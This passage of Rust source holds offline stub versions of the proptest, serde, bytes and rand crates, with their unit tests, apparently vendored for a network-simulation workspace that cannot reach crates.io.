                        min.trim().parse().expect("bad {} count"),
                        max.trim().parse().expect("bad {} count"),
                    ),
                };
                assert!(min <= max, "proptest stub: inverted {{m,n}} quantifier");
                (Repeat { min, max }, close + 1)
            }
            _ => (Repeat { min: 1, max: 1 }, i),
        }
    }

    fn sample_sequence(sequence: &[(Node, Repeat)], rng: &mut TestRng, out: &mut String) {
        for (node, repeat) in sequence {
            let span = (repeat.max - repeat.min + 1) as u64;
            let count = repeat.min + (rng.next_u64() % span) as usize;
            for _ in 0..count {
                sample_node(node, rng, out);
            }
        }
    }

    fn sample_node(node: &Node, rng: &mut TestRng, out: &mut String) {
        match node {
            Node::Literal(c) => out.push(*c),
            Node::Class(members) => {
                out.push(members[rng.next_u64() as usize % members.len()]);
            }
            Node::Group(alternatives) => {
                let chosen = &alternatives[rng.next_u64() as usize % alternatives.len()];
                for inner in chosen {
                    sample_node(inner, rng, out);
                }
            }
            Node::Repeated(inner, min, max) => {
                let span = (max - min + 1) as u64;
                let count = min + (rng.next_u64() % span) as usize;
                for _ in 0..count {
                    sample_node(inner, rng, out);
                }
            }
        }
    }
}

pub mod test_runner {
    //! Deterministic RNG, case counts and failure plumbing for `proptest!`.

    /// Default number of cases per property (over proptest's 256 — the
    /// strategies here are cheap and the suite still runs in seconds).
    pub const DEFAULT_CASES: u32 = 512;

    /// Number of cases per property, honouring `PROPTEST_CASES`.
    pub fn case_count() -> u32 {
        std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|raw| raw.parse().ok())
            .unwrap_or(DEFAULT_CASES)
    }

    /// The FNV-1a fold of a test's name used to seed its stream. Exposed so
    /// failure messages can print a seed that reproduces the run via
    /// [`TestRng::from_seed`].
    pub fn named_seed(name: &str) -> u64 {
        let mut seed = 0xcbf2_9ce4_8422_2325u64;
        for byte in name.bytes() {
            seed ^= byte as u64;
            seed = seed.wrapping_mul(0x0000_0100_0000_01b3);
        }
        seed
    }

    /// SplitMix64 stream used to drive all strategies.
    #[derive(Debug, Clone)]
    pub struct TestRng {
        state: u64,
    }

    impl TestRng {
        /// Creates a generator from an explicit seed.
        pub fn from_seed(seed: u64) -> Self {
            TestRng { state: seed }
        }

        /// Deterministic per-test seed derived from the test's name, so every
        /// property explores a different but reproducible stream.
        pub fn for_test(name: &str) -> Self {
            TestRng::from_seed(named_seed(name))
        }

        /// Returns the next 64 random bits.
        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    /// A failed property case.
    #[derive(Debug)]
    pub struct TestCaseError {
        message: String,
    }

    impl TestCaseError {
        /// Builds a failure from a message.
        pub fn fail(message: impl Into<String>) -> Self {
            TestCaseError {
                message: message.into(),
            }
        }
    }

    impl std::fmt::Display for TestCaseError {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            write!(f, "{}", self.message)
        }
    }
}

/// Everything a property test file needs.
pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::Strategy;
    pub use crate::test_runner::{TestCaseError, TestRng};
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, proptest};
}

/// Declares property tests. Each function runs
/// [`test_runner::case_count`] cases with freshly sampled inputs.
#[macro_export]
macro_rules! proptest {
    ($( $(#[$meta:meta])* fn $name:ident($($arg:pat_param in $strategy:expr),+ $(,)?) $body:block )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let cases = $crate::test_runner::case_count();
                let seed = $crate::test_runner::named_seed(stringify!($name));
                let mut rng = $crate::test_runner::TestRng::from_seed(seed);
                for case in 0..cases {
                    $(let $arg = $crate::strategy::Strategy::sample(&($strategy), &mut rng);)+
                    let outcome: ::core::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| { $body ::core::result::Result::Ok(()) })();
                    if let ::core::result::Result::Err(error) = outcome {
                        panic!(
                            "property {} failed at case {}/{} (replay: TestRng::from_seed({:#x})): {}",
                            stringify!($name), case, cases, seed, error,
                        );
                    }
                }
            }
        )*
    };
}

/// Asserts a condition inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return ::core::result::Result::Err(
                $crate::test_runner::TestCaseError::fail(format!($($fmt)*)),
            );
        }
    };
}

/// Asserts equality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "assertion failed: {} == {}\n  left: {:?}\n right: {:?}",
            stringify!($left), stringify!($right), left, right
        );
    }};
}

/// Asserts inequality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left != *right,
            "assertion failed: {} != {}\n  left: {:?}\n right: {:?}",
            stringify!($left), stringify!($right), left, right
        );
    }};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;
    use crate::string::sample_regex;

    #[test]
    fn regex_subset_samples_match_shape() {
        let mut rng = TestRng::from_seed(1);
        for _ in 0..200 {
            let path = sample_regex("/[a-z]{1,12}(\\.js)?", &mut rng);
            assert!(path.starts_with('/'));
            let rest = path.trim_start_matches('/');
            let stem = rest.trim_end_matches(".js");
            assert!((1..=12).contains(&stem.len()), "bad stem {stem:?}");
            assert!(stem.chars().all(|c| c.is_ascii_lowercase()));

            let kv = sample_regex("[a-z]{1,8}=[a-z0-9]{1,8}", &mut rng);
            let (key, value) = kv.split_once('=').expect("kv shape");
            assert!(!key.is_empty() && key.len() <= 8);
            assert!(!value.is_empty() && value.len() <= 8);

            let printable = sample_regex("[ -~]{0,200}", &mut rng);
            assert!(printable.len() <= 200);
            assert!(printable.chars().all(|c| (' '..='~').contains(&c)));
        }
    }

    #[test]
    fn open_ended_quantifier_above_cap() {
        let mut rng = TestRng::from_seed(3);
        for _ in 0..100 {
            let s = sample_regex("[a-z]{10,}", &mut rng);
            assert!(s.len() >= 10, "got {} chars", s.len());
        }
    }

    #[test]
    #[should_panic(expected = "empty size range")]
    fn empty_inclusive_size_range_is_rejected() {
        // Construct the empty range at runtime so the deliberate emptiness
        // does not trip clippy::reversed_empty_ranges.
        let (start, end) = (5usize, 3usize);
        let _ = crate::collection::SizeRange::from(start..=end);
    }

    #[test]
    fn alternation_and_plus() {
        let mut rng = TestRng::from_seed(2);
        for _ in 0..100 {
            let s = sample_regex("(foo|bar)+x", &mut rng);
            assert!(s.ends_with('x'));
            let body = &s[..s.len() - 1];
            assert!(!body.is_empty());
        }
    }

    proptest! {
        /// The stub's own macro wiring: ranges stay in bounds.
        #[test]
        fn ranges_stay_in_bounds(value in 10u32..20, flag in any::<u8>()) {
            prop_assert!((10..20).contains(&value));
            prop_assert_eq!(flag as u64 & 0xff, flag as u64);
        }

        /// Vectors respect their size range.
        #[test]
        fn vectors_respect_size(items in crate::collection::vec(0u8..10, 3..7)) {
            prop_assert!((3..7).contains(&items.len()));
            prop_assert!(items.iter().all(|&b| b < 10));
        }

        /// Option strategies produce both variants over enough cases.
        #[test]
        fn options_in_range(maybe in crate::option::of(1u64..100)) {
            if let Some(v) = maybe {
                prop_assert!((1..100).contains(&v));
            }
        }
    }
}
