//! Offline stub of `serde`.
//!
//! The build environment cannot reach crates.io, so this crate provides just
//! enough of serde's trait surface for the workspace to keep its
//! `#[derive(Serialize, Deserialize)]` annotations and the occasional manual
//! `#[serde(with = "...")]` adapter module. No data format ships with the
//! workspace, so nothing serialises at runtime; the traits exist to be
//! implemented, not driven.
//!
//! Mirrored API subset:
//!
//! * [`Serialize`], [`Serializer`] (unit/bytes sinks only),
//! * [`Deserialize`], [`Deserializer`],
//! * [`ser::Error`] / [`de::Error`] with `custom`,
//! * the `derive` feature re-exporting the stub `serde_derive` macros.

#![forbid(unsafe_code)]

// The derive macros emit paths rooted at `::serde`; alias self so the
// in-crate tests can exercise them too.
#[cfg(test)]
extern crate self as serde;

use std::fmt::Display;

#[cfg(feature = "derive")]
pub use serde_derive::{Deserialize, Serialize};

/// Serialization error machinery.
pub mod ser {
    use std::fmt::Display;

    /// Trait every [`crate::Serializer`] error type implements.
    pub trait Error: Sized + std::error::Error {
        /// Builds an error from an arbitrary message.
        fn custom<T: Display>(msg: T) -> Self;
    }
}

/// Deserialization error machinery.
pub mod de {
    use std::fmt::Display;

    /// Trait every [`crate::Deserializer`] error type implements.
    pub trait Error: Sized + std::error::Error {
        /// Builds an error from an arbitrary message.
        fn custom<T: Display>(msg: T) -> Self;
    }
}

/// A value that can be serialised.
pub trait Serialize {
    /// Serialises `self` into the given serializer.
    fn serialize<S>(&self, serializer: S) -> Result<S::Ok, S::Error>
    where
        S: Serializer;
}

/// A serialisation sink. Only the entry points the workspace actually calls
/// are modelled; everything funnels into `serialize_unit`/`serialize_bytes`.
pub trait Serializer: Sized {
    /// Value produced on success.
    type Ok;
    /// Error type.
    type Error: ser::Error;

    /// Serialises a unit value.
    fn serialize_unit(self) -> Result<Self::Ok, Self::Error>;

    /// Serialises a byte slice.
    fn serialize_bytes(self, v: &[u8]) -> Result<Self::Ok, Self::Error>;
}

/// A value that can be deserialised.
pub trait Deserialize<'de>: Sized {
    /// Deserialises `Self` from the given deserializer.
    fn deserialize<D>(deserializer: D) -> Result<Self, D::Error>
    where
        D: Deserializer<'de>;
}

/// A deserialisation source. The stub carries no data model: implementations
/// of [`Deserialize`] against it can only fail, which is fine because nothing
/// in the workspace deserialises at runtime.
pub trait Deserializer<'de>: Sized {
    /// Error type.
    type Error: de::Error;
}

impl<'de, T> Deserialize<'de> for Vec<T> {
    fn deserialize<D>(_deserializer: D) -> Result<Self, D::Error>
    where
        D: Deserializer<'de>,
    {
        Err(<D::Error as de::Error>::custom(
            "serde stub: runtime deserialization is not supported offline",
        ))
    }
}

/// A ready-made error type for tests exercising the stub traits.
#[derive(Debug)]
pub struct StubError(String);

impl Display for StubError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::error::Error for StubError {}

impl ser::Error for StubError {
    fn custom<T: Display>(msg: T) -> Self {
        StubError(msg.to_string())
    }
}

impl de::Error for StubError {
    fn custom<T: Display>(msg: T) -> Self {
        StubError(msg.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A serializer that records what was written, used to prove the derive
    /// output drives the trait surface.
    struct Probe;

    impl Serializer for Probe {
        type Ok = &'static str;
        type Error = StubError;

        fn serialize_unit(self) -> Result<Self::Ok, Self::Error> {
            Ok("unit")
        }

        fn serialize_bytes(self, _v: &[u8]) -> Result<Self::Ok, Self::Error> {
            Ok("bytes")
        }
    }

    #[cfg(feature = "derive")]
    #[derive(Serialize, Deserialize)]
    struct Derived {
        #[serde(with = "ignored")]
        _field: u32,
    }

    #[cfg(feature = "derive")]
    mod ignored {}

    #[cfg(feature = "derive")]
    #[test]
    fn derived_serialize_is_callable() {
        let value = Derived { _field: 7 };
        assert_eq!(value.serialize(Probe).unwrap(), "unit");
    }

    #[cfg(feature = "derive")]
    #[derive(Serialize, Deserialize)]
    struct WithLifetime<'a> {
        _name: &'a str,
    }

    #[cfg(feature = "derive")]
    #[derive(Serialize, Deserialize)]
    struct WithTypeParam<T> {
        _inner: T,
    }

    #[cfg(feature = "derive")]
    #[derive(Serialize, Deserialize)]
    #[allow(dead_code)]
    enum MixedGenerics<'a, T: Clone> {
        Borrowed(&'a str),
        Owned(T),
    }

    #[cfg(feature = "derive")]
    #[test]
    fn derives_handle_generics_and_lifetimes() {
        // The derive ignores fields, so no bounds on T are required.
        let value = WithLifetime { _name: "x" };
        assert_eq!(value.serialize(Probe).unwrap(), "unit");
        let value = WithTypeParam { _inner: vec![1u8] };
        assert_eq!(value.serialize(Probe).unwrap(), "unit");
        let value: MixedGenerics<'_, u8> = MixedGenerics::Borrowed("y");
        assert_eq!(value.serialize(Probe).unwrap(), "unit");
    }

    #[test]
    fn stub_error_carries_message() {
        let err = <StubError as de::Error>::custom("boom");
        assert_eq!(err.to_string(), "boom");
    }
}
