//! Offline stub of `bytes`.
//!
//! Implements the [`Bytes`] type — an immutable, cheaply clonable,
//! reference-counted byte buffer — with the subset of the real crate's API the
//! workspace uses. Cloning shares the underlying allocation, so packet
//! payloads can fan out across simulated links without copying.

#![forbid(unsafe_code)]

use std::borrow::Borrow;
use std::fmt;
use std::ops::Deref;
use std::sync::Arc;

/// An immutable, reference-counted byte buffer. Clones share storage.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Bytes {
    data: Arc<[u8]>,
}

impl Bytes {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        Bytes {
            data: Arc::from(&[][..]),
        }
    }

    /// Creates a buffer from a static slice.
    pub fn from_static(data: &'static [u8]) -> Self {
        Bytes {
            data: Arc::from(data),
        }
    }

    /// Copies `data` into a new buffer.
    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes {
            data: Arc::from(data),
        }
    }

    /// Buffer length in bytes.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// Whether the buffer is empty.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Returns a sub-range as a new (copied) buffer.
    pub fn slice(&self, range: impl std::ops::RangeBounds<usize>) -> Bytes {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len(),
        };
        Bytes::copy_from_slice(&self.data[start..end])
    }

    /// Returns the contents as a `Vec<u8>`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.data.to_vec()
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        &self.data
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        &self.data
    }
}

impl Borrow<[u8]> for Bytes {
    fn borrow(&self) -> &[u8] {
        &self.data
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &byte in self.data.iter() {
            for escaped in std::ascii::escape_default(byte) {
                write!(f, "{}", escaped as char)?;
            }
        }
        write!(f, "\"")
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(data: Vec<u8>) -> Self {
        Bytes {
            data: Arc::from(data.into_boxed_slice()),
        }
    }
}

impl From<Box<[u8]>> for Bytes {
    fn from(data: Box<[u8]>) -> Self {
        Bytes { data: Arc::from(data) }
    }
}

impl From<String> for Bytes {
    fn from(data: String) -> Self {
        Bytes::from(data.into_bytes())
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(data: &'static [u8]) -> Self {
        Bytes::from_static(data)
    }
}

impl From<&'static str> for Bytes {
    fn from(data: &'static str) -> Self {
        Bytes::from_static(data.as_bytes())
    }
}

impl FromIterator<u8> for Bytes {
    fn from_iter<I: IntoIterator<Item = u8>>(iter: I) -> Self {
        Bytes::from(iter.into_iter().collect::<Vec<u8>>())
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        &self.data[..] == other
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        &self.data[..] == *other
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        &self.data[..] == other.as_slice()
    }
}

#[cfg(test)]
mod tests {
    use super::Bytes;

    #[test]
    fn clones_share_storage() {
        let original = Bytes::from(vec![1, 2, 3]);
        let clone = original.clone();
        assert_eq!(original, clone);
        assert_eq!(clone.as_ref().as_ptr(), original.as_ref().as_ptr());
    }

    #[test]
    fn slice_and_deref() {
        let bytes = Bytes::copy_from_slice(b"hello world");
        assert_eq!(&bytes[..5], b"hello");
        assert_eq!(bytes.slice(6..).as_ref(), b"world");
        assert_eq!(bytes.len(), 11);
    }

    #[test]
    fn debug_escapes() {
        let bytes = Bytes::copy_from_slice(b"a\n");
        assert_eq!(format!("{bytes:?}"), "b\"a\\n\"");
    }
}
