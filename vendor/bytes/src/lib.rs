//! Offline stub of `bytes`.
//!
//! Implements the [`Bytes`] type — an immutable, cheaply clonable,
//! reference-counted byte buffer — with the subset of the real crate's API the
//! workspace uses. Cloning shares the underlying allocation, and
//! [`Bytes::slice`] produces zero-copy views (an offset/length window over the
//! shared allocation, exactly like the real crate), so packet payloads can fan
//! out across simulated links and be re-segmented at the MSS without copying.

#![forbid(unsafe_code)]

use std::borrow::Borrow;
use std::fmt;
use std::ops::Deref;
use std::sync::Arc;

/// An immutable, reference-counted byte buffer. Clones and slices share
/// storage.
#[derive(Clone)]
pub struct Bytes {
    data: Arc<[u8]>,
    start: usize,
    len: usize,
}

impl Bytes {
    fn from_arc(data: Arc<[u8]>) -> Self {
        let len = data.len();
        Bytes { data, start: 0, len }
    }

    /// Creates an empty buffer.
    pub fn new() -> Self {
        Bytes::from_arc(Arc::from(&[][..]))
    }

    /// Creates a buffer from a static slice.
    pub fn from_static(data: &'static [u8]) -> Self {
        Bytes::from_arc(Arc::from(data))
    }

    /// Copies `data` into a new buffer.
    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes::from_arc(Arc::from(data))
    }

    /// Buffer length in bytes.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the buffer is empty.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Returns a sub-range as a new buffer sharing the same allocation
    /// (zero-copy, like the real crate).
    ///
    /// # Panics
    ///
    /// Panics if the range is out of bounds.
    pub fn slice(&self, range: impl std::ops::RangeBounds<usize>) -> Bytes {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len,
        };
        assert!(start <= end, "slice start {start} past end {end}");
        assert!(end <= self.len, "slice end {end} past buffer length {}", self.len);
        Bytes {
            data: Arc::clone(&self.data),
            start: self.start + start,
            len: end - start,
        }
    }

    /// Returns the contents as a `Vec<u8>`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.as_slice().to_vec()
    }

    fn as_slice(&self) -> &[u8] {
        &self.data[self.start..self.start + self.len]
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl Borrow<[u8]> for Bytes {
    fn borrow(&self) -> &[u8] {
        self.as_slice()
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &byte in self.as_slice() {
            for escaped in std::ascii::escape_default(byte) {
                write!(f, "{}", escaped as char)?;
            }
        }
        write!(f, "\"")
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for Bytes {}

impl PartialOrd for Bytes {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Bytes {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.as_slice().cmp(other.as_slice())
    }
}

impl std::hash::Hash for Bytes {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.as_slice().hash(state);
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(data: Vec<u8>) -> Self {
        Bytes::from_arc(Arc::from(data.into_boxed_slice()))
    }
}

impl From<Box<[u8]>> for Bytes {
    fn from(data: Box<[u8]>) -> Self {
        Bytes::from_arc(Arc::from(data))
    }
}

impl From<String> for Bytes {
    fn from(data: String) -> Self {
        Bytes::from(data.into_bytes())
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(data: &'static [u8]) -> Self {
        Bytes::from_static(data)
    }
}

impl From<&'static str> for Bytes {
    fn from(data: &'static str) -> Self {
        Bytes::from_static(data.as_bytes())
    }
}

impl FromIterator<u8> for Bytes {
    fn from_iter<I: IntoIterator<Item = u8>>(iter: I) -> Self {
        Bytes::from(iter.into_iter().collect::<Vec<u8>>())
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self.as_slice() == other
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        self.as_slice() == *other
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl<const N: usize> PartialEq<[u8; N]> for Bytes {
    fn eq(&self, other: &[u8; N]) -> bool {
        self.as_slice() == other
    }
}

impl<const N: usize> PartialEq<&[u8; N]> for Bytes {
    fn eq(&self, other: &&[u8; N]) -> bool {
        self.as_slice() == *other
    }
}

#[cfg(test)]
mod tests {
    use super::Bytes;

    #[test]
    fn clones_share_storage() {
        let original = Bytes::from(vec![1, 2, 3]);
        let clone = original.clone();
        assert_eq!(original, clone);
        assert_eq!(clone.as_ref().as_ptr(), original.as_ref().as_ptr());
    }

    #[test]
    fn slice_and_deref() {
        let bytes = Bytes::copy_from_slice(b"hello world");
        assert_eq!(&bytes[..5], b"hello");
        assert_eq!(bytes.slice(6..).as_ref(), b"world");
        assert_eq!(bytes.len(), 11);
    }

    #[test]
    fn slices_are_zero_copy_views() {
        let bytes = Bytes::copy_from_slice(b"hello world");
        let tail = bytes.slice(6..);
        // The view points into the original allocation.
        assert_eq!(tail.as_ref().as_ptr(), bytes.as_ref()[6..].as_ptr());
        // Sub-slicing a slice stays within the same allocation too.
        let sub = tail.slice(1..3);
        assert_eq!(sub.as_ref(), b"or");
        assert_eq!(sub.as_ref().as_ptr(), bytes.as_ref()[7..].as_ptr());
    }

    #[test]
    #[should_panic(expected = "past buffer length")]
    fn out_of_bounds_slice_panics() {
        let bytes = Bytes::copy_from_slice(b"abc");
        let _ = bytes.slice(..4);
    }

    #[test]
    fn equality_respects_windows() {
        let bytes = Bytes::copy_from_slice(b"xxabcxx");
        let window = bytes.slice(2..5);
        assert_eq!(window, Bytes::copy_from_slice(b"abc"));
        assert_eq!(window, *b"abc");
        assert_eq!(window.to_vec(), b"abc".to_vec());
    }

    #[test]
    fn debug_escapes() {
        let bytes = Bytes::copy_from_slice(b"a\n");
        assert_eq!(format!("{bytes:?}"), "b\"a\\n\"");
    }
}
