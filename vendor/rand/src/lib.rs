//! Offline stub of `rand`.
//!
//! The build environment cannot reach crates.io, so this crate implements the
//! small slice of the `rand 0.8` API the workspace uses, backed by a
//! deterministic SplitMix64 generator. Everything in the reproduction seeds
//! its RNGs explicitly (`StdRng::seed_from_u64`), so determinism is a feature
//! here, not a bug: the same seed always produces the same simulated web
//! population, churn pattern and injection races.
//!
//! Mirrored API subset:
//!
//! * [`RngCore`] (`next_u32`/`next_u64`/`fill_bytes`),
//! * [`SeedableRng`] (`from_seed`, `seed_from_u64`),
//! * [`Rng`] (`gen`, `gen_bool`, `gen_range` over integer ranges and `f64`),
//! * [`rngs::StdRng`].

#![forbid(unsafe_code)]

/// Low-level source of randomness.
pub trait RngCore {
    /// Returns the next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

/// An RNG that can be instantiated from a seed.
pub trait SeedableRng: Sized {
    /// Raw seed type.
    type Seed: Default + AsMut<[u8]>;

    /// Creates the RNG from a full-width seed.
    fn from_seed(seed: Self::Seed) -> Self;

    /// Creates the RNG from a `u64` convenience seed.
    fn seed_from_u64(state: u64) -> Self {
        let mut seed = Self::Seed::default();
        let bytes = seed.as_mut();
        // Expand the u64 through SplitMix64 so short seeds still fill wide
        // seed arrays with well-mixed bits (same approach as rand_core).
        let mut expander = rngs::StdRng { state };
        for chunk in bytes.chunks_mut(8) {
            let value = expander.next_u64().to_le_bytes();
            chunk.copy_from_slice(&value[..chunk.len()]);
        }
        Self::from_seed(seed)
    }
}

/// Types that [`Rng::gen`] can produce.
pub trait Standard: Sized {
    /// Draws a uniformly distributed value from `rng`.
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_int {
    ($($ty:ty),*) => {$(
        impl Standard for $ty {
            fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $ty
            }
        }
    )*};
}

impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniformly distributed mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
}

impl Standard for f32 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 40) as f32 / (1u64 << 24) as f32
    }
}

/// Ranges that [`Rng::gen_range`] accepts.
pub trait SampleRange<T> {
    /// Draws a value uniformly from the range.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_int {
    ($($ty:ty),*) => {$(
        impl SampleRange<$ty> for core::ops::Range<$ty> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $ty {
                assert!(self.start < self.end, "cannot sample empty range");
                let span = (self.end as u128).wrapping_sub(self.start as u128);
                self.start.wrapping_add((rng.next_u64() as u128 % span) as $ty)
            }
        }

        impl SampleRange<$ty> for core::ops::RangeInclusive<$ty> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $ty {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "cannot sample empty range");
                let span = (end as u128).wrapping_sub(start as u128).wrapping_add(1);
                start.wrapping_add((rng.next_u64() as u128 % span) as $ty)
            }
        }
    )*};
}

impl_sample_range_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleRange<f64> for core::ops::Range<f64> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "cannot sample empty range");
        self.start + f64::sample_standard(rng) * (self.end - self.start)
    }
}

/// High-level convenience methods over any [`RngCore`].
pub trait Rng: RngCore {
    /// Draws a uniformly distributed value of type `T`.
    fn gen<T: Standard>(&mut self) -> T {
        T::sample_standard(self)
    }

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "probability out of range: {p}");
        f64::sample_standard(self) < p
    }

    /// Draws a value uniformly from `range`.
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_from(self)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Concrete generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// Deterministic SplitMix64 generator standing in for `rand`'s `StdRng`.
    ///
    /// SplitMix64 passes BigCrush for the statistical quality the simulations
    /// need and has a one-word state, which keeps seeding trivial.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        pub(crate) state: u64,
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    impl SeedableRng for StdRng {
        type Seed = [u8; 32];

        fn from_seed(seed: Self::Seed) -> Self {
            // Fold all 32 seed bytes into the one-word state so seeds that
            // differ anywhere produce different streams.
            let mut state = 0u64;
            for chunk in seed.chunks(8) {
                let mut word = [0u8; 8];
                word[..chunk.len()].copy_from_slice(chunk);
                state = state
                    .rotate_left(17)
                    .wrapping_mul(0x9E37_79B9_7F4A_7C15)
                    ^ u64::from_le_bytes(word);
            }
            StdRng { state }
        }

        fn seed_from_u64(state: u64) -> Self {
            StdRng { state }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn same_seed_same_stream() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.gen::<u64>(), b.gen::<u64>());
        }
    }

    #[test]
    fn from_seed_uses_every_seed_byte() {
        let base = [0u8; 32];
        for position in 0..32 {
            let mut tweaked = base;
            tweaked[position] = 1;
            let mut a = StdRng::from_seed(base);
            let mut b = StdRng::from_seed(tweaked);
            assert_ne!(
                a.gen::<u64>(),
                b.gen::<u64>(),
